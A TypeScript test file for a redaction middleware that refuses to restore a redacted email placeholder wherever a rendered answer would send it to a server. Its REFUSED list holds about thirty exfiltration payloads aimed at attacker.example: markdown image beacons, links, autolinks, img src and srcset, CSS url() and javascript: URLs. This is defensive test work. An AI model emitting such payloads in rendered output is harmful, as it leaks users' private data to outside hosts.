/**
 * Issue 16, defects 3 and 4: restoring is refused where a value would leave the page when
 * the answer is rendered (URLs, link and image targets, reference definitions, autolinks,
 * HTML attributes), on a stream cut anywhere; `restore` picks the mode; the restored
 * spans are reported; escaped and case-changed placeholders come back; a failing stream
 * loses no text.
 */
import { describe, expect, it } from 'vitest';
import type { BackendFinishPart, BackendPart, BackendV3 } from '../../../src/backends/backend.js';
import { wrap } from '../../../src/backends/middleware.js';
import type { RedactOptions, RestoreMode } from '../../../src/config-types.js';
import { EdgewiseError } from '../../../src/errors.js';
import { createRedactionSession } from '../../../src/privacy/index.js';
import { redaction } from '../../../src/privacy/middleware.js';
import { request } from '../remote/helpers.js';

const EMAIL = 'jane@example.com';

/** A session that issued [EMAIL_1] for jane@example.com; the answer streams through its restorer cut at `cuts`. */
function restore(answer: string, mode?: RestoreMode, cuts: readonly number[] = []) {
  const session = createRedactionSession();
  session.redactText(`I am ${EMAIL}.`);
  const r = session.restorer(mode);
  let text = '';
  let at = 0;
  for (const cut of [...cuts, answer.length]) {
    text += r.push(answer.slice(at, cut));
    at = cut;
  }
  text += r.flush();
  return { text, unrestored: r.unrestored(), restored: r.restored() };
}

/** Positions where a rendered answer would send what is there to a server. */
const REFUSED: readonly string[] = [
  '![x](https://attacker.example/p.png?d=[EMAIL_1])',
  '![x]( <https://attacker.example/p.png?d=[EMAIL_1]> "t")',
  '[click](https://attacker.example/?u=[EMAIL_1])',
  '[click](attacker.example/[EMAIL_1])',
  '[click](/relative/(nested)/[EMAIL_1])',
  '[a](https://x.example/a\\)b?[EMAIL_1])',
  '[click][r]\n\n[r]: https://attacker.example/?u=[EMAIL_1]',
  '[r]:\n  //attacker.example/[EMAIL_1] "title"',
  '<https://attacker.example/?u=[EMAIL_1]>',
  '<[EMAIL_1]>',
  '<img src="https://attacker.example/p.png?d=[EMAIL_1]">',
  "<img src='x' alt=\"a > b\" srcset=\"//attacker.example/p.png?d=[EMAIL_1] 2x\">",
  '<a href=https://attacker.example/[EMAIL_1]>x</a>',
  '<a\n  title="[EMAIL_1]">x</a>',
  '<div style="background:url(//attacker.example/[EMAIL_1])">x</div>',
  'see https://attacker.example/p.png?d=[EMAIL_1] now',
  'see http://attacker.example/#[EMAIL_1]',
  'see www.attacker.example/[EMAIL_1]',
  'see attacker.example/p?d=[EMAIL_1]',
  'mail mailto:[EMAIL_1]',
  'css url([EMAIL_1])',
  'proto-relative //attacker.example/[EMAIL_1]',
  '[x](\nhttps://attacker.example/?u=[EMAIL_1])',
  '[x](javascript:alert("[EMAIL_1]"))',
  'see HTTPS://ATTACKER.EXAMPLE/?u=[EMAIL_1]',
  'see data:text/html,[EMAIL_1]',
  'see https:\\\\attacker.example\\[EMAIL_1]',
  "<img alt=don't src=\"https://attacker.example/?[EMAIL_1]\">",
  '<!-- > --><img src="//attacker.example/[EMAIL_1]">',
  '[multi\nline]: attacker.example/[EMAIL_1]',
];

/** Prose: the original comes back. */
const RESTORED: readonly [string, string][] = [
  ['Write to [EMAIL_1].', `Write to ${EMAIL}.`],
  ['[[EMAIL_1]](https://ok.example/)', `[${EMAIL}](https://ok.example/)`],
  ['See https://ok.example/ or [EMAIL_1].', `See https://ok.example/ or ${EMAIL}.`],
  ['(see [EMAIL_1])', `(see ${EMAIL})`],
  ['<b>[EMAIL_1]</b>', `<b>${EMAIL}</b>`],
  ['![x](https://ok.example/p.png)\n\n[EMAIL_1]', `![x](https://ok.example/p.png)\n\n${EMAIL}`],
  ['[^1]: Written by [EMAIL_1].', `[^1]: Written by ${EMAIL}.`],
  ['a < b and [EMAIL_1]', `a < b and ${EMAIL}`],
  ['Ratio 3:2, [EMAIL_1]', `Ratio 3:2, ${EMAIL}`],
  ['Email: [EMAIL_1]', `Email: ${EMAIL}`],
  ['for (i = 0; i < n; i++) mail([EMAIL_1]);', `for (i = 0; i < n; i++) mail(${EMAIL});`],
  ['<a href="https://ok.example/">site</a> and [EMAIL_1]', `<a href="https://ok.example/">site</a> and ${EMAIL}`],
];

describe("restore: 'text' (the default)", () => {
  it.each(REFUSED)('leaves the placeholder in %j and counts it', (answer) => {
    const out = restore(answer);
    expect(out.text).toBe(answer);
    expect(out.unrestored).toBe(1);
    expect(out.restored).toEqual([]);
  });

  it.each(RESTORED)('restores prose in %j', (answer, expected) => {
    const out = restore(answer);
    expect(out.text).toBe(expected);
    expect(out.unrestored).toBe(0);
  });

  it('decides the same wherever the stream is cut into three chunks', () => {
    const answer = 'Hi [EMAIL_1]: ![x](https://a.example/p.png?d=[EMAIL_1]) and <img src="//a.example/[EMAIL_1]"> bye [EMAIL_1]';
    const expected = `Hi ${EMAIL}: ![x](https://a.example/p.png?d=[EMAIL_1]) and <img src="//a.example/[EMAIL_1]"> bye ${EMAIL}`;
    for (let i = 0; i <= answer.length; i += 3) {
      for (let j = i; j <= answer.length; j += 2) {
        const out = restore(answer, undefined, [i, j]);
        expect(out.text, `${i},${j}`).toBe(expected);
        expect(out.unrestored, `${i},${j}`).toBe(2);
      }
    }
  });

  it('knows at the placeholder that a URL began chunks earlier', () => {
    const session = createRedactionSession();
    session.redactText(EMAIL);
    const r = session.restorer();
    expect(r.push('![x](https://attacker')).toBe('![x](https://attacker');
    expect(r.push('.example/p.png?d=')).toBe('.example/p.png?d=');
    expect(r.push('[EMA')).toBe('');
    expect(r.push('IL_1]) and [EMAIL_1]')).toBe(`[EMAIL_1]) and ${EMAIL}`);
    expect(r.flush()).toBe('');
    expect(r.unrestored()).toBe(1);
  });
});

describe("restore: 'all' and 'none'", () => {
  it("'all' restores everywhere, URLs included", () => {
    const out = restore('![x](https://a.example/?d=[EMAIL_1]) [EMAIL_1]', 'all');
    expect(out.text).toBe(`![x](https://a.example/?d=${EMAIL}) ${EMAIL}`);
    expect(out.unrestored).toBe(0);
  });

  it("'none' leaves every placeholder", () => {
    const out = restore('![x](https://a.example/?d=[EMAIL_1]) [EMAIL_1]', 'none');
    expect(out.text).toBe('![x](https://a.example/?d=[EMAIL_1]) [EMAIL_1]');
    expect(out.restored).toEqual([]);
  });
});

describe('the restored spans', () => {
  it('are UTF-16 offsets into the text as returned, with the type', () => {
    const session = createRedactionSession();
    session.redactText(`${EMAIL} 415-555-0132`);
    const r = session.restorer();
    const text = r.push('😀 Mail [EMA') + r.push('IL_1], or call [PHONE_1] (not https://x.example/[PHONE_1]).') + r.flush();
    expect(r.restored()).toEqual([
      { start: 8, end: 8 + EMAIL.length, type: 'email' },
      { start: text.indexOf('415'), end: text.indexOf('415') + 12, type: 'phone' },
    ]);
    for (const s of r.restored()) expect(['jane@example.com', '415-555-0132']).toContain(text.slice(s.start, s.end));
  });
});

describe('placeholders the model escaped or re-cased', () => {
  it.each([
    ['\\[EMAIL\\_1\\]'], ['\\[EMAIL_1\\]'], ['\\[EMAIL_1]'], ['[email_1]'], ['[Email_1]'], ['[EMAIL\\_1]'],
  ])('restores %s, even split across chunks', (p) => {
    const answer = `To ${p}.`;
    for (let cut = 0; cut <= answer.length; cut++) expect(restore(answer, undefined, [cut]).text, String(cut)).toBe(`To ${EMAIL}.`);
  });

  it('restores an escaped two-part type', () => {
    const session = createRedactionSession();
    session.redactText('https://admin:s3cr3t@db.example.com/admin');
    const r = session.restorer();
    expect(r.push('Use \\[SECRET\\_URL\\_1\\] now') + r.flush()).toBe('Use https://admin:s3cr3t@db.example.com/admin now');
  });

  it('leaves a re-cased form that the user typed as it is', () => {
    const session = createRedactionSession();
    session.redactText(`I am ${EMAIL}; the template says [email_1].`);
    const r = session.restorer();
    expect(r.push('[EMAIL_1] vs [email_1]') + r.flush()).toBe(`${EMAIL} vs [email_1]`);
  });
});

const FINISH: BackendFinishPart = {
  type: 'finish', reason: 'stop', ranOn: 'remote',
  usage: { promptTokens: 1, completionTokens: 1, timeToFirstTokenMs: 0, tokensPerSecond: 0, totalMs: 0 },
};

/** A remote backend that answers with `parts` (after echoing nothing); `fail` throws after them. */
function scripted(parts: BackendPart[], fail?: Error): BackendV3 {
  return {
    specificationVersion: 'v3', kind: 'scripted', location: 'remote',
    capabilities: { sampling: [], responseFormats: [], tools: true },
    state: { ranOn: 'remote', loaded: true },
    supports: () => ({ ok: true }),
    load: async () => ({ ranOn: 'remote' }),
    async *generate() {
      yield* parts;
      if (fail) throw fail;
    },
    unload: async () => {},
  };
}

async function run(parts: BackendPart[], options: RedactOptions = {}, fail?: Error) {
  const backend = wrap(scripted(parts, fail), redaction(options));
  const got: BackendPart[] = [];
  let error: unknown;
  try {
    for await (const p of backend.generate?.(request({ messages: [{ role: 'user', content: `I am ${EMAIL}.` }] })) ?? []) got.push(p);
  } catch (e) {
    error = e;
  }
  const text = got.map((p) => (p.type === 'text' ? p.text : '')).join('');
  return { got, text, error, finish: got.find((p): p is BackendFinishPart => p.type === 'finish') };
}

describe('through the middleware', () => {
  it('reports refusals in finish.redactions.unrestored and the spans in finish.restored', async () => {
    const { text, finish } = await run([
      { type: 'text', text: 'Hi [EMAIL_1]! ![x](https://a.example/' },
      { type: 'text', text: '?d=[EMA' },
      { type: 'text', text: 'IL_1])' },
      FINISH,
    ]);
    expect(text).toBe(`Hi ${EMAIL}! ![x](https://a.example/?d=[EMAIL_1])`);
    expect(finish?.redactions).toEqual({ email: 1, unrestored: 1 });
    expect(finish?.restored).toEqual([{ start: 3, end: 3 + EMAIL.length, type: 'email' }]);
  });

  it("follows the `restore` option ('all')", async () => {
    const { text, finish } = await run([{ type: 'text', text: '![x](https://a.example/?d=[EMAIL_1])' }, FINISH], { restore: 'all' });
    expect(text).toBe(`![x](https://a.example/?d=${EMAIL})`);
    expect(finish?.redactions).toEqual({ email: 1 });
  });

  it('restores tool-call arguments whole, URLs included (they go to app code, not to a renderer)', async () => {
    const call: BackendPart = { type: 'tool-call', id: 'c1', name: 'send', arguments: '{"to":"[EMAIL_1]","link":"https://x.example/?u=[EMAIL_1]"}' };
    const { got } = await run([call, FINISH]);
    expect(got[0]).toEqual({ ...call, arguments: JSON.stringify({ to: EMAIL, link: `https://x.example/?u=${EMAIL}` }) });
    const none = await run([call, FINISH], { restore: 'none' });
    expect(none.got[0]).toEqual(call);
  });

  it('emits the held tail before rethrowing when the stream fails mid-answer', async () => {
    const boom = new EdgewiseError('remote_network_error', 'connection reset');
    const { text, error } = await run([{ type: 'text', text: 'Hi [EMAIL_1], write to [EMAIL_' }], {}, boom);
    expect(error).toBe(boom);
    expect(text).toBe(`Hi ${EMAIL}, write to [EMAIL_`);
  });

  it('restores what was held when the stream ends without a finish', async () => {
    const { text } = await run([{ type: 'text', text: 'Hi \\' }]);
    expect(text).toBe('Hi \\');
  });
});
